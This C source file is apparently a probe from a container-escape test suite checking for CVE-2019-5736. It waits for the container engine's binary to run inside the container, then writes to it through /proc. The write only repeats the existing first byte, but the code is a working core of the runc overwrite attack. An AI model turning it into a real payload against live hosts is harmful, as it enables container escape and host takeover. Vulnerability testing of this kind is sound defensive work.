/*
 * CVE-2019-5736: the engine's own binary is what runs for a moment in the container
 * when something is started there. Waits for such processes and writes to their
 * executable through /proc/<pid>/exe. argv: seconds
 */
#include "attack.h"
#include <dirent.h>
#include <time.h>

static ino_t own_inode;
static dev_t own_device;

/* Writes the byte that is there already: a success is a finding and does no harm. */
static bool writable(int link)
{
        char path[64], byte = 0x7f;
        snprintf(path, sizeof(path), "/proc/self/fd/%d", link);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
                return false;
        bool through = pwrite(fd, &byte, 1, 0) == 1;
        close(fd);
        return through;
}

/* The file can't be written while it runs (ETXTBSY), so the link is kept and tried again later. */
static int try_pid(const char *pid, int *kept, int n_kept, int room)
{
        char path[300];
        struct stat st, root;
        snprintf(path, sizeof(path), "/proc/%s/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
                return n_kept;
        if (fstat(fd, &st) < 0 || (st.st_ino == own_inode && st.st_dev == own_device) || stat("/", &root) < 0 ||
            st.st_dev == root.st_dev || n_kept == room) {
                close(fd);
                return n_kept;
        }
        kept[n_kept] = fd;
        return n_kept + 1;
}

static int scan(int *kept, int n_kept, int room)
{
        DIR *proc = opendir("/proc");
        if (!proc)
                return n_kept;
        for (struct dirent *entry; (entry = readdir(proc));)
                if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
                        n_kept = try_pid(entry->d_name, kept, n_kept, room);
        closedir(proc);
        return n_kept;
}

int main(int argc, char **argv)
{
        int kept[256], n_kept = 0;
        struct stat st;
        if (argc != 2 || stat("/proc/self/exe", &st) < 0)
                return 2;
        own_inode = st.st_ino;
        own_device = st.st_dev;
        puts("ready");
        fflush(stdout);
        bool through = false;
        for (time_t end = time(NULL) + strtol(argv[1], NULL, 10); time(NULL) < end;) {
                n_kept = scan(kept, n_kept, 200);
                for (int i = 0; i < n_kept; i++)
                        through = through || writable(kept[i]);
        }
        printf("foreign executables seen: %d\n", n_kept);
        attempt("overwrite an executable of the engine", through);
        return verdict();
}
